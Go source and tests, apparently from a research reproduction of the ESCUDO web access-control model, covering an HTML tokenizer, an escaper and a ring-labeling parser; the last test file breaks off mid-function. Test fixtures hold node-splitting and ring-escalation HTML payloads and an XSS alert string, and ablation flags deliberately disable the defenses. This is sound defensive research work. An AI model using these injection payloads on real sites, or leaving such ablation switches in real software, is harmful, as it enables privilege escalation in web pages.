	if len(toks) != 1 || toks[0].Type != EndTagToken {
		t.Fatalf("toks = %v", toks)
	}
	if v, ok := toks[0].Attr("nonce"); !ok || v != "3847" {
		t.Errorf("nonce = %q,%v", v, ok)
	}
}

func TestTokenizeCaseNormalization(t *testing.T) {
	toks := collect(t, `<DIV RING=2 CLASS=Big>x</DIV>`)
	if toks[0].Tag != "div" {
		t.Errorf("tag = %q, want div", toks[0].Tag)
	}
	if v, _ := toks[0].Attr("ring"); v != "2" {
		t.Errorf("ring attr not found under lowercase name")
	}
	if v, _ := toks[0].Attr("class"); v != "Big" {
		t.Errorf("attr value case must be preserved, got %q", v)
	}
}

func TestTokenizeSelfClosingAndVoid(t *testing.T) {
	toks := collect(t, `<br/><img src="a.png"><input type=text />`)
	if toks[0].Type != SelfClosingTagToken || toks[0].Tag != "br" {
		t.Errorf("tok0 = %+v", toks[0])
	}
	if toks[1].Type != StartTagToken || toks[1].Tag != "img" {
		t.Errorf("tok1 = %+v", toks[1])
	}
	if toks[2].Type != SelfClosingTagToken || toks[2].Tag != "input" {
		t.Errorf("tok2 = %+v", toks[2])
	}
}

func TestTokenizeComments(t *testing.T) {
	toks := collect(t, `a<!-- secret <div> -->b`)
	if len(toks) != 3 {
		t.Fatalf("toks = %v", toks)
	}
	if toks[1].Type != CommentToken || toks[1].Data != " secret <div> " {
		t.Errorf("comment = %+v", toks[1])
	}
}

func TestTokenizeDoctype(t *testing.T) {
	toks := collect(t, `<!DOCTYPE html><p>x</p>`)
	if toks[0].Type != DoctypeToken || toks[0].Data != "!DOCTYPE html" {
		t.Errorf("doctype = %+v", toks[0])
	}
}

func TestTokenizeScriptRawText(t *testing.T) {
	// Script bodies are raw text: tags inside are not markup.
	toks := collect(t, `<script>if (a < b) { d = "<div>"; }</script>`)
	if len(toks) != 3 {
		t.Fatalf("toks = %v", toks)
	}
	if toks[1].Type != TextToken || !strings.Contains(toks[1].Data, `"<div>"`) {
		t.Errorf("script body = %+v", toks[1])
	}
	if toks[2].Type != EndTagToken || toks[2].Tag != "script" {
		t.Errorf("closer = %+v", toks[2])
	}
}

func TestTokenizeUnterminatedScript(t *testing.T) {
	toks := collect(t, `<script>var x = 1;`)
	if len(toks) != 2 || toks[1].Type != TextToken || toks[1].Data != "var x = 1;" {
		t.Errorf("toks = %v", toks)
	}
}

func TestTokenizeLiteralLessThan(t *testing.T) {
	toks := collect(t, `3 < 5 and <b>bold</b>`)
	if len(toks) != 4 {
		t.Fatalf("toks = %v", toks)
	}
	if toks[0].Type != TextToken || toks[0].Data != "3 < 5 and " {
		t.Errorf("tok0 = %+v", toks[0])
	}
}

func TestTokenizeEntities(t *testing.T) {
	toks := collect(t, `&lt;script&gt; &amp; &#65;&#x42; &bogus; &amp`)
	if len(toks) != 1 {
		t.Fatalf("toks = %v", toks)
	}
	want := `<script> & AB &bogus; &amp`
	if toks[0].Data != want {
		t.Errorf("text = %q, want %q", toks[0].Data, want)
	}
}

func TestTokenizeAttrEntity(t *testing.T) {
	toks := collect(t, `<a href="/q?a=1&amp;b=2">x</a>`)
	if v, _ := toks[0].Attr("href"); v != "/q?a=1&b=2" {
		t.Errorf("href = %q", v)
	}
}

func TestTokenizeGarbageRobustness(t *testing.T) {
	// Torn markup must not loop or panic.
	inputs := []string{
		"<", "<>", "< >", "</", "</>", "<!", "<!-", "<!--", "<a", `<a href="`,
		"<a href='x", "<div ring=", "<div =x>", "<<<>>>", "</ div>", "<a/b>",
		"<p", "text<", "<a b=c d>", strings.Repeat("<div>", 50),
	}
	for _, in := range inputs {
		collect(t, in) // must terminate without panic
	}
}

// Property: the tokenizer terminates and never panics on arbitrary
// input, and text token data never contains undecoded markup-start
// for well-formed escapes.
func TestTokenizerNeverPanics(t *testing.T) {
	f := func(s string) (ok bool) {
		defer func() {
			if recover() != nil {
				ok = false
			}
		}()
		z := NewTokenizer(s)
		for i := 0; i < len(s)+10; i++ {
			if z.Next().Type == EOFToken {
				return true
			}
		}
		return false // did not terminate fast enough
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Error(err)
	}
}

func TestUnescape(t *testing.T) {
	tests := []struct{ in, want string }{
		{"plain", "plain"},
		{"&amp;", "&"},
		{"&lt;&gt;", "<>"},
		{"&quot;&apos;", `"'`},
		{"&#65;", "A"},
		{"&#x41;", "A"},
		{"&#X41;", "A"},
		{"&nbsp;", " "},
		{"&unknown;", "&unknown;"},
		{"&#;", "&#;"},
		{"&#x;", "&#x;"},
		{"&#0;", "&#0;"},
		{"&#1114112;", "&#1114112;"}, // beyond Unicode
		{"a&b", "a&b"},
		{"&amp", "&amp"}, // no semicolon
	}
	for _, tt := range tests {
		if got := Unescape(tt.in); got != tt.want {
			t.Errorf("Unescape(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestEscapeRoundTrip(t *testing.T) {
	f := func(s string) bool {
		return Unescape(EscapeText(s)) == s && Unescape(EscapeAttr(s)) == s
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestEscapeTextNeutralizesMarkup(t *testing.T) {
	s := EscapeText(`<script>alert("xss")</script>`)
	if strings.ContainsAny(s, "<>") {
		t.Errorf("escaped text still contains markup: %q", s)
	}
}

func TestIsVoid(t *testing.T) {
	for _, tag := range []string{"img", "br", "input", "meta", "link", "hr"} {
		if !IsVoid(tag) {
			t.Errorf("IsVoid(%q) = false", tag)
		}
	}
	for _, tag := range []string{"div", "p", "script", "a", "form"} {
		if IsVoid(tag) {
			t.Errorf("IsVoid(%q) = true", tag)
		}
	}
}
