package html

import (
	"testing"

	"repro/internal/core"
)

// Ablation experiments: each §5 defense, when individually disabled,
// re-admits the attack it exists to stop. DESIGN.md calls these out
// as the evidence that the defenses are load-bearing, not decorative.

// nodeSplitPayload tries to close the nonce-sealed ring-3 scope and
// open a ring-0 scope.
const nodeSplitPage = `<div ring=3 r=2 w=2 x=2 nonce=777 id=user>` +
	`</div><div ring=0 id=forged>evil</div>` +
	`</div nonce=777>`

func TestAblationNonceDefense(t *testing.T) {
	withDefense := Options{Escudo: true, MaxRing: 3}
	doc := Parse(nodeSplitPage, withDefense)
	forged := findByID(doc, "forged")
	if forged == nil || forged.Ring != 3 {
		t.Fatalf("with defense: forged = %+v, want clamped ring 3", forged)
	}

	ablated := withDefense
	ablated.AblateNonceDefense = true
	doc = Parse(nodeSplitPage, ablated)
	forged = findByID(doc, "forged")
	if forged == nil {
		t.Fatal("ablated: forged div missing")
	}
	if forged.Ring != 0 {
		t.Errorf("ablated: forged ring = %d — without the nonce defense the node-splitting attack must succeed (ring 0)", forged.Ring)
	}
}

func TestAblationScopingRule(t *testing.T) {
	page := `<div ring=3 id=user><div ring=0 id=inner>x</div></div>`
	withRule := Options{Escudo: true, MaxRing: 3}
	doc := Parse(page, withRule)
	if inner := findByID(doc, "inner"); inner.Ring != 3 {
		t.Fatalf("with rule: inner ring = %d, want 3", inner.Ring)
	}

	ablated := withRule
	ablated.AblateScopingRule = true
	doc = Parse(page, ablated)
	if inner := findByID(doc, "inner"); inner.Ring != 0 {
		t.Errorf("ablated: inner ring = %d — without the scoping rule the nested escalation must succeed", inner.Ring)
	}
}

func TestAblationFragmentScoping(t *testing.T) {
	// innerHTML-style fragment parses rely on the same rule: ablated,
	// a ring-3 write mints a ring-0 principal.
	kids := ParseFragment(`<div ring=0 id=minted>x</div>`,
		Options{Escudo: true, MaxRing: 3, AblateScopingRule: true}, 3, core.UniformACL(3))
	if len(kids) != 1 || kids[0].Ring != 0 {
		t.Errorf("ablated fragment = %+v, want ring 0 escalation", kids)
	}
}
