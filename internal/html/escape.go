package html

import (
	"strconv"
	"strings"
)

// namedEntities is the subset of HTML named character references the
// reproduction needs; real-world pages in the evaluation corpus only
// use the core five plus a few typographic conveniences.
var namedEntities = map[string]rune{
	"amp":    '&',
	"lt":     '<',
	"gt":     '>',
	"quot":   '"',
	"apos":   '\'',
	"nbsp":   '\u00A0',
	"copy":   '©',
	"mdash":  '—',
	"ndash":  '–',
	"hellip": '…',
	"laquo":  '«',
	"raquo":  '»',
}

// Unescape decodes HTML character references (&amp;, &#65;, &#x41;) in
// s. Malformed references are left verbatim, as browsers do.
func Unescape(s string) string {
	if !strings.ContainsRune(s, '&') {
		return s
	}
	var b strings.Builder
	b.Grow(len(s))
	for i := 0; i < len(s); {
		c := s[i]
		if c != '&' {
			b.WriteByte(c)
			i++
			continue
		}
		semi := strings.IndexByte(s[i:], ';')
		if semi < 0 || semi > 12 {
			b.WriteByte(c)
			i++
			continue
		}
		ref := s[i+1 : i+semi]
		if r, ok := decodeEntity(ref); ok {
			b.WriteRune(r)
			i += semi + 1
			continue
		}
		b.WriteByte(c)
		i++
	}
	return b.String()
}

// decodeEntity decodes one reference body (without '&' and ';').
func decodeEntity(ref string) (rune, bool) {
	if ref == "" {
		return 0, false
	}
	if ref[0] == '#' {
		num := ref[1:]
		base := 10
		if len(num) > 0 && (num[0] == 'x' || num[0] == 'X') {
			base = 16
			num = num[1:]
		}
		n, err := strconv.ParseInt(num, base, 32)
		if err != nil || n <= 0 || n > 0x10FFFF {
			return 0, false
		}
		return rune(n), true
	}
	if r, ok := namedEntities[ref]; ok {
		return r, true
	}
	return 0, false
}

// escapeTextReplacer escapes the characters that are markup-significant
// in text content.
var escapeTextReplacer = strings.NewReplacer(
	"&", "&amp;",
	"<", "&lt;",
	">", "&gt;",
)

// escapeAttrReplacer additionally escapes quotes for attribute values.
var escapeAttrReplacer = strings.NewReplacer(
	"&", "&amp;",
	"<", "&lt;",
	">", "&gt;",
	`"`, "&quot;",
	"'", "&#39;",
)

// EscapeText encodes s for inclusion as HTML text content. This is the
// sanitization primitive the template engine's auto-escaping uses —
// the "first line of defense" of §1 that ESCUDO does not rely on but
// applications still deploy.
func EscapeText(s string) string { return escapeTextReplacer.Replace(s) }

// EscapeAttr encodes s for inclusion inside a double-quoted attribute
// value.
func EscapeAttr(s string) string { return escapeAttrReplacer.Replace(s) }
