package html

import (
	"fmt"
	"strings"

	"repro/internal/core"
)

// NodeType identifies the kind of a parse-tree node.
type NodeType int

// Node types.
const (
	DocumentNode NodeType = iota + 1
	ElementNode
	TextNode
	CommentNode
	DoctypeNode
)

// Node is one node of the parse tree. The parser resolves ESCUDO
// labels during construction: Ring and ACL carry the security context
// of the scope the node appeared in, and configuration attributes
// (ring, r, w, x, nonce) are stripped from Attrs so they are never
// observable through the DOM API (paper §5: the configuration "is not
// exposed to JavaScript programs for modification").
type Node struct {
	Type NodeType
	// Tag is the lowercase element name for ElementNode.
	Tag string
	// Attrs are the element's attributes minus ESCUDO configuration.
	Attrs []Attr
	// Data is the text for TextNode, the body for CommentNode and
	// DoctypeNode.
	Data string

	// Ring and ACL are the resolved ESCUDO labels. For legacy parses
	// (Options.Escudo false) they are the zero ring with a uniform
	// ring-0 ACL, which makes the ERM coincide with the SOP.
	Ring core.Ring
	ACL  core.ACL
	// IsACTag marks elements that carried a ring attribute.
	IsACTag bool

	Parent *Node
	Kids   []*Node
}

// AppendChild links child as the last child of n.
func (n *Node) AppendChild(child *Node) {
	child.Parent = n
	n.Kids = append(n.Kids, child)
}

// Attr returns the value of the named (lowercase) attribute.
func (n *Node) Attr(name string) (string, bool) {
	for _, a := range n.Attrs {
		if a.Name == name {
			return a.Value, true
		}
	}
	return "", false
}

// Options configures a parse.
type Options struct {
	// Escudo enables ESCUDO labeling: AC-tag recognition, the
	// scoping rule, configuration stripping, and the nonce defense.
	// When false the parser behaves like a legacy browser: AC
	// attributes are ordinary attributes (§6.3 backward
	// compatibility), and all labels are ring 0.
	Escudo bool
	// MaxRing is the page's least privileged ring (from
	// X-Escudo-Maxring). Ignored unless Escudo is set.
	MaxRing core.Ring
	// BaseRing is the *label* of the document scope: content outside
	// any AC tag gets this ring. Configured pages use the fail-safe
	// least privileged ring (§4.3); legacy pages use 0.
	BaseRing core.Ring
	// BaseACL is the ACL label of the document scope.
	BaseACL core.ACL
	// BaseBound is the scoping-rule floor for AC tags declared in the
	// top-level scope. A full document parse uses 0: the server
	// speaks with ring-0 authority when it authors top-level AC tags.
	// Fragment parses (innerHTML) use the host node's ring so written
	// markup can never mint a more privileged principal (§5).
	BaseBound core.Ring

	// AblateNonceDefense disables the §5 markup-randomization check:
	// any </div> closes a nonce-sealed AC scope. FOR ABLATION
	// EXPERIMENTS ONLY — it re-enables node-splitting.
	AblateNonceDefense bool
	// AblateScopingRule disables the §5 scoping rule: declared rings
	// are taken at face value regardless of the enclosing scope. FOR
	// ABLATION EXPERIMENTS ONLY — injected content can then mint
	// higher-privileged principals.
	AblateScopingRule bool
}

// LegacyOptions returns options for a non-ESCUDO parse: everything in
// ring 0 with a ring-0 ACL (SOP-equivalent labels).
func LegacyOptions() Options {
	return Options{Escudo: false, MaxRing: 0, BaseRing: 0, BaseACL: core.UniformACL(0)}
}

// scope is one level of the AC-tag scope stack. label ring/acl apply
// to content in the scope; bound is the scoping-rule floor for nested
// AC tags (only AC tags — and fragment hosts — impose bounds).
type scope struct {
	node  *Node
	ring  core.Ring
	acl   core.ACL
	bound core.Ring
	nonce string // empty when the scope is not nonce-protected
	ac    bool   // whether node is an AC tag
}

// Parser builds a labeled tree from tokens.
type Parser struct {
	opts Options
	doc  *Node
	// open is the stack of open elements; open[0] is the document.
	open []*Node
	// scopes parallels AC-tag nesting, independent of the element
	// stack; scopes[0] is the document scope.
	scopes []scope
	// ignoredClosers counts </div> tokens dropped by the nonce
	// defense, exposed for the security-analysis tests and audit.
	ignoredClosers int
}

// NewParser returns a parser with the given options.
func NewParser(opts Options) *Parser {
	doc := &Node{Type: DocumentNode, Ring: opts.BaseRing, ACL: opts.BaseACL}
	p := &Parser{opts: opts, doc: doc}
	p.open = []*Node{doc}
	p.scopes = []scope{{node: doc, ring: opts.BaseRing, acl: opts.BaseACL, bound: opts.BaseBound}}
	return p
}

// Parse parses a complete document.
func Parse(input string, opts Options) *Node {
	p := NewParser(opts)
	z := NewTokenizer(input)
	for {
		tok := z.Next()
		if tok.Type == EOFToken {
			break
		}
		p.feed(tok)
	}
	return p.Finish()
}

// ParseFragment parses markup produced at run time (innerHTML,
// document.write) under an enclosing scope: the scoping rule bounds
// every declared ring by parentRing, so a script can never manufacture
// a child more privileged than the subtree it writes into (§5).
func ParseFragment(input string, opts Options, parentRing core.Ring, parentACL core.ACL) []*Node {
	opts.BaseRing = parentRing
	opts.BaseACL = parentACL
	opts.BaseBound = parentRing
	p := NewParser(opts)
	z := NewTokenizer(input)
	for {
		tok := z.Next()
		if tok.Type == EOFToken {
			break
		}
		p.feed(tok)
	}
	doc := p.Finish()
	kids := doc.Kids
	for _, k := range kids {
		k.Parent = nil
	}
	doc.Kids = nil
	return kids
}

// IgnoredClosers reports how many end tags the nonce defense dropped.
func (p *Parser) IgnoredClosers() int { return p.ignoredClosers }

// Finish closes any remaining open elements and returns the document.
func (p *Parser) Finish() *Node {
	p.open = p.open[:1]
	p.scopes = p.scopes[:1]
	return p.doc
}

// top returns the innermost open element.
func (p *Parser) top() *Node { return p.open[len(p.open)-1] }

// curScope returns the innermost AC scope.
func (p *Parser) curScope() scope { return p.scopes[len(p.scopes)-1] }

// feed processes one token.
func (p *Parser) feed(tok Token) {
	switch tok.Type {
	case TextToken:
		if tok.Data == "" {
			return
		}
		sc := p.curScope()
		p.top().AppendChild(&Node{Type: TextNode, Data: tok.Data, Ring: sc.ring, ACL: sc.acl})
	case CommentToken:
		sc := p.curScope()
		p.top().AppendChild(&Node{Type: CommentNode, Data: tok.Data, Ring: sc.ring, ACL: sc.acl})
	case DoctypeToken:
		sc := p.curScope()
		p.top().AppendChild(&Node{Type: DoctypeNode, Data: tok.Data, Ring: sc.ring, ACL: sc.acl})
	case StartTagToken, SelfClosingTagToken:
		p.startTag(tok)
	case EndTagToken:
		p.endTag(tok)
	}
}

// startTag creates an element, resolving its ESCUDO label.
func (p *Parser) startTag(tok Token) {
	sc := p.curScope()
	el := &Node{Type: ElementNode, Tag: tok.Tag, Ring: sc.ring, ACL: sc.acl}

	var ac core.ACAttrs
	if p.opts.Escudo && tok.Tag == "div" {
		attrMap := make(map[string]string, len(tok.Attrs))
		for _, a := range tok.Attrs {
			attrMap[a.Name] = a.Value
		}
		bound := sc.bound
		if p.opts.AblateScopingRule {
			bound = core.RingKernel
		}
		ac = core.ParseACAttrs(attrMap, p.opts.MaxRing, bound)
	}

	for _, a := range tok.Attrs {
		if p.opts.Escudo && core.IsConfigAttr(a.Name) {
			continue // configuration is never exposed (§5)
		}
		el.Attrs = append(el.Attrs, a)
	}

	if ac.HasRing {
		el.IsACTag = true
		el.Ring = ac.Ring
		el.ACL = ac.ACL.Clamp(p.opts.MaxRing)
	}

	p.top().AppendChild(el)
	if tok.Type == SelfClosingTagToken || IsVoid(tok.Tag) {
		return
	}
	p.open = append(p.open, el)
	if ac.HasRing {
		p.scopes = append(p.scopes, scope{node: el, ring: el.Ring, acl: el.ACL, bound: el.Ring, nonce: ac.Nonce, ac: true})
	}
}

// endTag closes the nearest matching open element, subject to the
// nonce defense: an end tag that would close a nonce-protected AC tag
// without presenting the matching nonce is ignored outright, which is
// exactly how ESCUDO defeats node-splitting (§5).
func (p *Parser) endTag(tok Token) {
	// Find the nearest open element with this tag.
	idx := -1
	for i := len(p.open) - 1; i >= 1; i-- {
		if p.open[i].Tag == tok.Tag {
			idx = i
			break
		}
	}
	if idx < 0 {
		return // no matching open element: ignore
	}
	if p.opts.Escudo && !p.opts.AblateNonceDefense {
		// The closer must authenticate against every nonce-protected
		// AC scope it would close (the matched element and anything
		// implicitly closed above it).
		closerNonce, _ := tok.Attr(core.AttrNonce)
		for i := len(p.scopes) - 1; i >= 1; i-- {
			s := p.scopes[i]
			if !p.elementAtOrAbove(s.node, idx) {
				break
			}
			if s.nonce != "" && s.nonce != closerNonce {
				p.ignoredClosers++
				return
			}
		}
	}
	// Pop elements and any AC scopes they owned.
	for len(p.open) > idx {
		closed := p.top()
		p.open = p.open[:len(p.open)-1]
		if n := len(p.scopes); n > 1 && p.scopes[n-1].node == closed {
			p.scopes = p.scopes[:n-1]
		}
	}
}

// elementAtOrAbove reports whether el sits at stack position >= idx.
func (p *Parser) elementAtOrAbove(el *Node, idx int) bool {
	for i := len(p.open) - 1; i >= idx; i-- {
		if p.open[i] == el {
			return true
		}
	}
	return false
}

// Render serializes the tree back to HTML. ESCUDO configuration was
// stripped at parse time, so rendered output never leaks it.
func Render(n *Node) string {
	var b strings.Builder
	render(&b, n)
	return b.String()
}

// RenderFiltered serializes the subtree, skipping (with their whole
// subtrees) any nodes for which include returns false. The mediated
// DOM API uses it to serialize a region while eliding nodes the
// reading principal may not see. A nil include renders everything.
func RenderFiltered(n *Node, include func(*Node) bool) string {
	var b strings.Builder
	renderFiltered(&b, n, include)
	return b.String()
}

// render is renderFiltered with no filter; both share one
// serialization path so the plain and mediated renderings can never
// diverge.
func render(b *strings.Builder, n *Node) {
	renderFiltered(b, n, nil)
}

func renderFiltered(b *strings.Builder, n *Node, include func(*Node) bool) {
	if include != nil && !include(n) {
		return
	}
	switch n.Type {
	case DocumentNode:
		for _, k := range n.Kids {
			renderFiltered(b, k, include)
		}
	case TextNode:
		if n.Parent != nil && rawTextElements[n.Parent.Tag] {
			b.WriteString(n.Data)
		} else {
			b.WriteString(EscapeText(n.Data))
		}
	case CommentNode:
		fmt.Fprintf(b, "<!--%s-->", n.Data)
	case DoctypeNode:
		fmt.Fprintf(b, "<%s>", n.Data)
	case ElementNode:
		b.WriteByte('<')
		b.WriteString(n.Tag)
		for _, a := range n.Attrs {
			if a.Value == "" {
				fmt.Fprintf(b, " %s", a.Name)
			} else {
				fmt.Fprintf(b, " %s=%q", a.Name, EscapeAttr(a.Value))
			}
		}
		b.WriteByte('>')
		if IsVoid(n.Tag) {
			return
		}
		for _, k := range n.Kids {
			renderFiltered(b, k, include)
		}
		fmt.Fprintf(b, "</%s>", n.Tag)
	}
}

// InnerText concatenates the text content of the subtree, the way a
// renderer would extract it.
func InnerText(n *Node) string {
	var b strings.Builder
	innerText(&b, n)
	return b.String()
}

func innerText(b *strings.Builder, n *Node) {
	if n.Type == TextNode {
		b.WriteString(n.Data)
		return
	}
	for _, k := range n.Kids {
		innerText(b, k)
	}
}

// InnerTextFiltered concatenates the subtree's text, skipping (with
// their whole subtrees) nodes for which include returns false. A nil
// include is plain InnerText.
func InnerTextFiltered(n *Node, include func(*Node) bool) string {
	if include == nil {
		return InnerText(n)
	}
	var b strings.Builder
	var walk func(*Node)
	walk = func(x *Node) {
		if !include(x) {
			return
		}
		if x.Type == TextNode {
			b.WriteString(x.Data)
			return
		}
		for _, k := range x.Kids {
			walk(k)
		}
	}
	walk(n)
	return b.String()
}

// Walk visits every node of the subtree in document order, stopping
// early if fn returns false.
func Walk(n *Node, fn func(*Node) bool) bool {
	if !fn(n) {
		return false
	}
	for _, k := range n.Kids {
		if !Walk(k, fn) {
			return false
		}
	}
	return true
}

// CountNodes returns the number of nodes in the subtree, counting n.
func CountNodes(n *Node) int {
	count := 0
	Walk(n, func(*Node) bool { count++; return true })
	return count
}
