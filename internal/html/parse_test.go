package html

import (
	"fmt"
	"strings"
	"testing"
	"testing/quick"

	"repro/internal/core"
)

// escudoOpts are standard ESCUDO parse options with the paper's N=3.
func escudoOpts() Options {
	return Options{Escudo: true, MaxRing: 3, BaseRing: 0, BaseACL: core.PermissiveACL(3)}
}

// findTag returns the first element with the given tag.
func findTag(n *Node, tag string) *Node {
	var found *Node
	Walk(n, func(m *Node) bool {
		if m.Type == ElementNode && m.Tag == tag {
			found = m
			return false
		}
		return true
	})
	return found
}

// findByID returns the first element whose id attribute matches.
func findByID(n *Node, id string) *Node {
	var found *Node
	Walk(n, func(m *Node) bool {
		if v, ok := m.Attr("id"); ok && v == id {
			found = m
			return false
		}
		return true
	})
	return found
}

func TestParseTree(t *testing.T) {
	doc := Parse(`<html><body><p id=a>one</p><p id=b>two</p></body></html>`, LegacyOptions())
	body := findTag(doc, "body")
	if body == nil || len(body.Kids) != 2 {
		t.Fatalf("body = %+v", body)
	}
	if got := InnerText(doc); got != "onetwo" {
		t.Errorf("InnerText = %q", got)
	}
	a := findByID(doc, "a")
	if a == nil || a.Parent != body {
		t.Error("parent links broken")
	}
}

func TestParseFigure2Labels(t *testing.T) {
	// Figure 2: nested AC tags with rings 2 and 3.
	src := `<div ring=2 r=1 w=0 x=2 id=outer>out<div ring=3 r=2 w=0 x=2 id=inner>in</div></div>`
	doc := Parse(src, escudoOpts())
	outer := findByID(doc, "outer")
	inner := findByID(doc, "inner")
	if outer == nil || inner == nil {
		t.Fatal("AC divs not found")
	}
	if !outer.IsACTag || outer.Ring != 2 || outer.ACL != (core.ACL{Read: 1, Write: 0, Use: 2}) {
		t.Errorf("outer = ring %d acl %v ac %v", outer.Ring, outer.ACL, outer.IsACTag)
	}
	if !inner.IsACTag || inner.Ring != 3 || inner.ACL != (core.ACL{Read: 2, Write: 0, Use: 2}) {
		t.Errorf("inner = ring %d acl %v", inner.Ring, inner.ACL)
	}
	// Text inherits its scope's label.
	if outer.Kids[0].Type != TextNode || outer.Kids[0].Ring != 2 {
		t.Errorf("outer text ring = %d, want 2", outer.Kids[0].Ring)
	}
	if inner.Kids[0].Ring != 3 {
		t.Errorf("inner text ring = %d, want 3", inner.Kids[0].Ring)
	}
}

func TestParseConfigAttrsStripped(t *testing.T) {
	// §5: configuration is not exposed through the DOM.
	doc := Parse(`<div ring=2 r=1 w=0 x=2 nonce=99 class=box>x</div>`, escudoOpts())
	div := findTag(doc, "div")
	for _, name := range []string{"ring", "r", "w", "x", "nonce"} {
		if _, ok := div.Attr(name); ok {
			t.Errorf("config attr %q visible in DOM", name)
		}
	}
	if v, ok := div.Attr("class"); !ok || v != "box" {
		t.Error("ordinary attributes must survive")
	}
	if strings.Contains(Render(doc), "ring=") {
		t.Error("render leaks configuration")
	}
}

func TestParseLegacyKeepsACAttrs(t *testing.T) {
	// §6.3: non-ESCUDO browsers "simply ignore these attributes" —
	// they remain ordinary markup.
	doc := Parse(`<div ring=2 r=1>x</div>`, LegacyOptions())
	div := findTag(doc, "div")
	if v, ok := div.Attr("ring"); !ok || v != "2" {
		t.Error("legacy parse must keep ring attribute as plain markup")
	}
	if div.IsACTag {
		t.Error("legacy parse must not mark AC tags")
	}
	if div.Ring != 0 {
		t.Errorf("legacy labels must be ring 0, got %d", div.Ring)
	}
}

func TestParseScopingRule(t *testing.T) {
	// §5: "when a div tag is labeled with ring="n", then the
	// privileges of the principals within the scope of this div tag,
	// including all sub scopes, are bounded by ring level n ...
	// strictly enforced even if the ring specification of the sub
	// scope violates this rule."
	src := `<div ring=2 id=outer><div ring=0 id=evil>x</div><div ring=3 id=ok>y</div></div>`
	doc := Parse(src, escudoOpts())
	if evil := findByID(doc, "evil"); evil.Ring != 2 {
		t.Errorf("inner ring=0 clamped to %d, want 2", evil.Ring)
	}
	if ok := findByID(doc, "ok"); ok.Ring != 3 {
		t.Errorf("inner ring=3 = %d, want 3", ok.Ring)
	}
}

func TestParseNonceDefense(t *testing.T) {
	// A node-splitting attack: user content inside the ring-3 AC tag
	// tries to close it and open a ring-0 scope (§5 case 2).
	src := `<div ring=1 id=app>app</div>` +
		`<div ring=3 r=2 w=2 x=2 nonce=777 id=user>` +
		`comment</div><div ring=0 id=forged>evil</div nonce=777>` + // forged closer lacks nonce
		`</div nonce=777>`
	doc := Parse(src, escudoOpts())
	forged := findByID(doc, "forged")
	if forged == nil {
		t.Fatal("forged div missing entirely")
	}
	// The forged </div> (no nonce) was ignored, so the forged div is
	// still inside the user scope and clamped to ring 3.
	if forged.Ring != 3 {
		t.Errorf("forged div ring = %d, want clamped 3", forged.Ring)
	}
	user := findByID(doc, "user")
	if forged.Parent != user {
		t.Error("forged div must remain inside the AC scope")
	}
}

func TestParseNonceMatchCloses(t *testing.T) {
	src := `<div ring=3 nonce=42 id=a>inside</div nonce=42><div ring=1 id=after>after</div>`
	doc := Parse(src, escudoOpts())
	after := findByID(doc, "after")
	if after.Ring != 1 {
		t.Errorf("after ring = %d, want 1 (scope closed by matching nonce)", after.Ring)
	}
	if after.Parent != doc {
		t.Error("after must be a sibling, not a child, of the AC div")
	}
}

func TestParseNonceMismatchCounted(t *testing.T) {
	p := NewParser(escudoOpts())
	z := NewTokenizer(`<div ring=3 nonce=7>x</div nonce=8></div>`)
	for {
		tok := z.Next()
		if tok.Type == EOFToken {
			break
		}
		p.feed(tok)
	}
	p.Finish()
	if got := p.IgnoredClosers(); got != 2 {
		t.Errorf("IgnoredClosers = %d, want 2", got)
	}
}

func TestParseNoncelessACTagAcceptsPlainCloser(t *testing.T) {
	// Applications may opt out of randomization; a nonce-free AC tag
	// closes normally.
	src := `<div ring=2 id=a>x</div><p id=sib>y</p>`
	doc := Parse(src, escudoOpts())
	if sib := findByID(doc, "sib"); sib.Parent != doc || sib.Ring != 0 {
		t.Errorf("sibling after nonce-free AC tag: parent=%v ring=%d", sib.Parent == doc, sib.Ring)
	}
}

func TestParsePlainDivInsideACScope(t *testing.T) {
	// A plain (non-AC) div inside a protected scope opens and closes
	// freely; only the AC boundary demands the nonce.
	src := `<div ring=2 nonce=5 id=ac><div id=plain>x</div><span id=s>y</span></div nonce=5>`
	doc := Parse(src, escudoOpts())
	plain := findByID(doc, "plain")
	s := findByID(doc, "s")
	ac := findByID(doc, "ac")
	if plain.Parent != ac || s.Parent != ac {
		t.Error("plain div must close without a nonce")
	}
	if plain.Ring != 2 || s.Ring != 2 {
		t.Errorf("children rings = %d,%d, want 2,2", plain.Ring, s.Ring)
	}
}

func TestParseVoidAndSelfClosing(t *testing.T) {
	doc := Parse(`<p><img src=x.png><br>text</p>`, LegacyOptions())
	p := findTag(doc, "p")
	if len(p.Kids) != 3 {
		t.Fatalf("p kids = %d, want 3", len(p.Kids))
	}
	img := p.Kids[0]
	if img.Tag != "img" || len(img.Kids) != 0 {
		t.Error("void img must have no children")
	}
}

func TestParseErrorRecovery(t *testing.T) {
	// Unclosed and mismatched tags must still produce a tree.
	doc := Parse(`<div><p>one<p>two</div></b><i>z`, LegacyOptions())
	if doc == nil || CountNodes(doc) < 4 {
		t.Errorf("recovered tree too small: %d nodes", CountNodes(doc))
	}
	// End tag closes intermediate elements.
	div := findTag(doc, "div")
	if div == nil {
		t.Fatal("div missing")
	}
}

func TestParseFragmentScoping(t *testing.T) {
	// Fragments (innerHTML) inherit the enclosing ring; declared
	// rings more privileged than the parent are clamped (§5).
	kids := ParseFragment(`<div ring=0 id=x>boom</div><b id=y>t</b>`,
		Options{Escudo: true, MaxRing: 3}, 3, core.UniformACL(3))
	if len(kids) != 2 {
		t.Fatalf("kids = %d", len(kids))
	}
	if kids[0].Ring != 3 {
		t.Errorf("fragment AC div ring = %d, want clamped 3", kids[0].Ring)
	}
	if kids[1].Ring != 3 {
		t.Errorf("fragment element ring = %d, want inherited 3", kids[1].Ring)
	}
}

func TestParseScriptBodyIntact(t *testing.T) {
	src := `<script>document.write("<div ring=0>");</script>`
	doc := Parse(src, escudoOpts())
	script := findTag(doc, "script")
	if script == nil || len(script.Kids) != 1 {
		t.Fatal("script body missing")
	}
	if !strings.Contains(script.Kids[0].Data, `<div ring=0>`) {
		t.Errorf("script body = %q", script.Kids[0].Data)
	}
	// The markup inside the script must NOT have become an element.
	count := 0
	Walk(doc, func(n *Node) bool {
		if n.Type == ElementNode && n.Tag == "div" {
			count++
		}
		return true
	})
	if count != 0 {
		t.Error("markup inside script body leaked into the tree")
	}
}

func TestRenderRoundTrip(t *testing.T) {
	src := `<html><body><p class="a">x &amp; y</p><img src="i.png"><!--c--></body></html>`
	doc := Parse(src, LegacyOptions())
